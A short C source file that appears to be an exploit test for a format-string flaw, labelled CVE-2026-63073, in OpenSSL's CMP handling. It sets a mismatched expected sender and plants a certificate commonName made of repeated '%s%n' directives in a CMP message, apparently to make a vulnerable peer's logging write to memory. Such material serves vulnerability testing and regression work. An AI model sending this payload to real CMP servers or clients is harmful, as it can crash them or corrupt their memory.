/* vulnerability: CVE-2026-63073: the name of an unexpected sender is text of the peer, and never a format */
#define _GNU_SOURCE
#include "support/attack.h"

/* So many directives that one of them meets what is no address. */
#define DIRECTIVES "%s%n%s%n%s%n%s%n%s%n%s%n%s%n%s%n%s%n%s%n%s%n%s%n%s%n%s%n%s%n%s%n%s%n%s%n%s%n%s%n"

static void expect_another(OSSL_CMP_CTX *ctx)
{
    int is_client = OSSL_CMP_CTX_get_transfer_cb_arg(ctx) != NULL;
    X509 *sender = client_certificate("ec", is_client ? "server.crt" : "new.crt");

    OSSL_CMP_CTX_set1_expected_sender(ctx, X509_get_subject_name(sender));
    X509_free(sender);
}

static void name_directives(struct message *message)
{
    static const unsigned char common_name[] = { 0x06, 0x03, 0x55, 0x04, 0x03 };
    struct der text = der_wrap(0x0c, (struct der){ (const unsigned char *)DIRECTIVES, sizeof(DIRECTIVES) - 1 });
    struct der pair = der_wrap(0x30, der_join((struct der){ common_name, sizeof(common_name) }, text));

    message->field[1] = der_wrap(0xa4, der_wrap(0x30, der_wrap(0x31, pair)));
    alter_protect(message, ATTACK_SECRET);
}

int main(int argc, char **argv)
{
    static const struct attack attack = { .spoil = name_directives, .prepare = expect_another };

    return attack_main(argc, argv, &attack, "ec");
}
